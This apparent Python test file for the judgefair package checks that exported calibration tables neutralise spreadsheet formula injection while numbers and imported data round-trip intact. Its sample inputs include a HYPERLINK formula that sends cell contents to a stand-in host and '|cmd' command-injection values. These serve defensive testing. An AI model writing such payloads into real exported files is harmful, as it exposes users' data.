"""Is no cell that judgefair writes a formula to a spreadsheet, and does each read back as it was?"""

import csv
import io
from pathlib import Path
from tempfile import TemporaryDirectory

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from judgefair.calibration import load_calibration_set
from judgefair.calibration.cells import as_cells, from_cells
from judgefair.calibration.exchange import import_set
from judgefair.calibration.ratings import read_table

TRIGGERS = set("=+-@\t\r\n＝＋－＠")
FORMULA = '=HYPERLINK("http://models.example/?"&A1,"open")'
# A carriage return is left out of ids: pandas' own reader and writer of CSV do not keep it.
TEXT = st.one_of(
    st.sampled_from([FORMULA, "-1+1|cmd", "@SUM(A1)", "+1", "-2", "'-2", "''", "=", "\t=1", "1e5", "-.5e3"]),
    st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=8).filter(lambda text: text.strip()),
)


@given(st.lists(st.fixed_dictionaries({"id": TEXT, "=x": TEXT}), min_size=1))
def test_any_table_comes_back_from_its_cells(rows):
    table = pd.DataFrame(rows, dtype="str")
    assert from_cells(as_cells(table)).equals(table)


@pytest.mark.parametrize("number", ["-1", "+1", "-0.5", "-.5", "-1e-3", "1", "0"])
def test_a_number_stays_one(number):
    assert as_cells(pd.DataFrame({"value": [number]}))["value"].tolist() == [number]


@pytest.mark.parametrize("text", ["-1+1", "--1", "-1 ", "-1\n", "+1|cmd", "-", "-e", "-1-", "+A1", "-１"])
def test_what_only_begins_as_a_number_does_not(text):
    assert as_cells(pd.DataFrame({"value": [text]}))["value"].tolist() == [f"'{text}"]


@settings(max_examples=40)
@given(st.lists(st.tuples(TEXT, TEXT, TEXT), min_size=1, max_size=5, unique_by=lambda row: row[:2]), TEXT)
def test_a_set_that_was_imported_holds_no_formula_and_is_loaded_as_it_was(rows, attribute):
    town = {rater: town for _, rater, town in rows}
    table = pd.DataFrame(
        [{"item_id": item, "rater_id": rater, "value": "-1", f"rater.{attribute}": town[rater]} for item, rater, _ in rows],
        dtype="str",
    )
    with TemporaryDirectory() as scratch:
        source, folder = Path(scratch) / "ratings.parquet", Path(scratch) / "my_set"
        table.to_parquet(source)
        import_set(str(source), folder, "nominal:-1,0", "human", [], "rating", "none", "Made up")
        for name in ("ratings.csv", "raters.csv"):
            for row in csv.reader(io.StringIO((folder / name).read_bytes().decode(), newline="")):
                assert not [cell for cell in row if cell[:1] in TRIGGERS and not _is_number(cell)]
        assert read_table(folder / "ratings.csv")["value"].tolist() == ["-1"] * len(rows)
        loaded = load_calibration_set(folder)
        assert list(zip(loaded.ratings["item_id"], loaded.ratings["rater_id"], strict=True)) == [row[:2] for row in rows]
        assert loaded.rated.raters.set_index("rater_id")[attribute].to_dict() == town


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
